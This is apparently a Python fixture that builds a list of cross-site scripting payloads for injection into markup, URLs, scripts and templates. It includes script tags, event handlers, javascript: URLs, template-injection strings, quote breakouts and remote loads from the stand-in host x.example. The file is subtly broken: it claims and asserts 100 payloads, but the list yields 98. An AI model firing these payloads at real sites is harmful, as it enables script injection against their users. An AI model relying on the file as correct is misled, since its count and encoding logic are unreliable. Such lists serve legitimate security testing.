"""100 texts that run a script where a page writes them as markup, as a URL, as a script or as a template."""

CALL = "alert(1)"

TEXTS = [
    f"<script>{CALL}</script>", f"\"><script>{CALL}</script>", f"'><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</script><script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src=//x.example></script>",
    f"<img src=x onerror={CALL}>", f"\"><img src=x onerror={CALL}>", f"<img src=x onerror=\"{CALL}\"", f"<img/src=x/onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>", f"<svg/onload={CALL}//", f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>", f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>", f"<a href=javascript:{CALL}>x</a>", f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"<form action=javascript:{CALL}><input type=submit>", f"<button formaction=javascript:{CALL}>x", f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>", f"<video src=x onerror={CALL}>", f"<audio src=x onerror={CALL}>",
    f"<math><mtext><script>{CALL}</script>", f"<style>@import '//x.example'</style>", f"<link rel=stylesheet href=//x.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", f"<base href=//x.example>", f"\" autofocus onfocus={CALL} x=\"",
    f"' onmouseover={CALL} '", f"` onclick={CALL} `", f"';{CALL};//", f"\";{CALL};//", f"`;{CALL};//", f"\\';{CALL};//", f"${{{CALL}}}", f"{{{{{CALL}}}}}",
    f"#{{{CALL}}}", f"<%= {CALL} %>", f"]]><script>{CALL}</script>", f"--><script>{CALL}</script>",
]

PAYLOADS = TEXTS + [f"&quot;{text}" for text in TEXTS[:25]] + [f"%253C{text}" for text in TEXTS[25:]]
assert len(PAYLOADS) == 100
